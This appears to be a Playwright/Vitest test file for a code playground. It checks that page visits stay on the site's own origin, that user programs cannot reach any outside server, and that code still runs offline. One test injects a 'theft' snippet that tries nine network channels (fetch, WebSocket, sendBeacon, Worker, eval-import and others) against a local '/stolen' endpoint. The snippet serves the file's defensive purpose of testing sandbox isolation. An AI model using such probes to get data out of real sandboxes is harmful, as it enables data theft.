/**
 * The site asks nobody but itself: whatever people and their programs do, every request goes to
 * the server that the page came from, is answered, and is one that the page itself made. With the
 * network gone, a page that stands still runs programs.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import {
  enterCode,
  openSite,
  pressRun,
  region,
  shareLink,
  untilStatus,
  type Site,
  type Visitor,
} from './site.ts';

let site: Site;
let visitor: Visitor;
/** A server that nobody may ask, and what it was asked all the same. */
let stranger: Server;
const strangerAsked: string[] = [];
/** What the browser says that it asked for: pages, frames and workers. */
const asked: URL[] = [];
const failed: string[] = [];

function watch(context: BrowserContext): void {
  context.on('request', (request) => asked.push(new URL(request.url())));
  context.on('requestfailed', (request) => {
    // What was still under way when the visit went on to another page is no failure.
    if (request.failure()?.errorText !== 'net::ERR_ABORTED') failed.push(request.url());
  });
  context.on('response', (response) => {
    if (response.status() >= 400) failed.push(`${response.status()} ${response.url()}`);
  });
}

beforeAll(async () => {
  stranger = createServer((request, response) => {
    strangerAsked.push(request.url ?? '');
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('secret');
  });
  await new Promise<void>((resolve) => void stranger.listen(0, '127.0.0.1', resolve));
  site = await openSite();
  visitor = await site.visit('');
  watch(visitor.page.context());
  await visitor.page.reload();
});
afterAll(async () => {
  await site.close();
  await new Promise((resolve) => void stranger.close(resolve));
});

const strangerUrl = (): string =>
  `http://127.0.0.1:${(stranger.address() as AddressInfo).port}/stolen`;

/** Every door that a program may try; each says into the console what became of it. */
const theft = (
  url: string,
): string => `const attempt = async (name: string, run: () => unknown) => {
  try {
    await run();
    console.log(name, 'went on');
  } catch (error) {
    console.log(name, (error as Error).name);
  }
};
const world = globalThis as any;
await attempt('fetch', () => fetch('${url}'));
await attempt('XMLHttpRequest', () => {
  const request = new world.XMLHttpRequest();
  request.open('GET', '${url}', false);
  request.send();
});
await attempt('WebSocket', () => new world.WebSocket('${url}'.replace('http', 'ws')));
await attempt('EventSource', () => new world.EventSource('${url}'));
await attempt('sendBeacon', () => world.navigator.sendBeacon('${url}', 'x'));
await attempt('importScripts', () => world.importScripts('${url}'));
await attempt('Image', () => Object.assign(new world.Image(), { src: '${url}' }));
await attempt('Worker', () => new world.Worker('${url}'));
await attempt('eval', () => (0, eval)('import("${url}")'));
`;

test('a whole visit asks only its own server, and only for what is there', async () => {
  const { page, complaints } = visitor;
  await page.getByRole('link', { name: 'Parallel execution', exact: true }).click();
  await page.getByRole('textbox', { name: 'Bad example' }).waitFor({ timeout: 60_000 });
  await page.getByRole('button', { name: 'Run both' }).click();
  await untilStatus(page, /^Finished/);
  await page.getByRole('table', { name: 'Comparison' }).waitFor();
  const link = await shareLink(page);

  await page.goto(`${site.server.url}playground/`);
  await page.getByRole('textbox', { name: 'Code' }).waitFor({ timeout: 60_000 });
  await pressRun(page, 'Code');
  await untilStatus(page, /^Finished/);
  // Types, completions and diagnostics come from TypeScript's worker, also on our own origin.
  await enterCode(page, 'Code', 'await Promise.allFulfilled([]);\n');
  await region(page, 'Code').locator('.squiggly-error').first().waitFor({ timeout: 30_000 });
  await page.goto(link);
  await page.getByText(/came with a link/).waitFor();
  await page.waitForLoadState('networkidle');

  const { origin, pathname } = new URL(site.server.url);
  const overTheNet = asked.filter(({ protocol }) => !['blob:', 'data:'].includes(protocol));
  expect(overTheNet.length).toBeGreaterThan(20);
  expect(overTheNet.filter((url) => url.origin !== origin).map(String)).toEqual([]);
  expect(overTheNet.filter((url) => !url.pathname.startsWith(pathname)).map(String)).toEqual([]);
  expect(failed).toEqual([]);
  // The other side of the wire: nothing arrived there that no page asked for.
  const known = new Set(overTheNet.map((url) => decodeURIComponent(url.pathname) + url.search));
  expect(site.server.requests.filter((path) => !known.has(path))).toEqual([]);
  expect(complaints).toEqual([]);
});

test('a program reaches no server, whatever it tries', async () => {
  const { page } = visitor;
  expect(await (await fetch(strangerUrl())).text()).toBe('secret');
  expect(strangerAsked.splice(0)).toEqual(['/stolen']);
  const before = asked.length;
  await page.goto(`${site.server.url}playground/`);
  await enterCode(page, 'Code', theft(strangerUrl()));
  await page.keyboard.press('ControlOrMeta+Enter');
  await untilStatus(page, /^Finished/);
  const log = page.getByRole('log', { name: 'Console' });
  await log.getByText(/^eval /).waitFor();
  const said = await log.locator('.console-text').allInnerTexts();
  expect(said).toHaveLength(9);
  expect(said.filter((line) => line.endsWith('went on'))).toEqual([]);
  // Time for whatever was only late.
  await page.waitForTimeout(500);
  expect(strangerAsked).toEqual([]);
  const { host } = new URL(strangerUrl());
  expect(asked.slice(before).filter((url) => url.host === host)).toEqual([]);
});

test('with the network gone, programs still run', async () => {
  const { page } = visitor;
  await page.goto(`${site.server.url}playground/`);
  await pressRun(page, 'Code');
  await untilStatus(page, /^(Finished|Failed)/);
  await page.context().setOffline(true);
  const before = site.server.requests.length;
  // More often than frames are kept warm.
  for (const count of [1, 2, 3, 4]) {
    await enterCode(
      page,
      'Code',
      `const response = await fetch('https://api.example.com/users/${count}');
await new Promise((done) => setTimeout(done, ${count}));
console.log((await response.json()).id);
`,
    );
    await page.keyboard.press('ControlOrMeta+Enter');
    await untilStatus(page, new RegExp(`^Finished in ${100 + count} ms`));
    const entry = page.getByRole('log', { name: 'Console' }).locator('.console-text');
    expect(await entry.allInnerTexts()).toEqual([String(count)]);
  }
  expect(site.server.requests.slice(before)).toEqual([]);
  await page.context().setOffline(false);
});
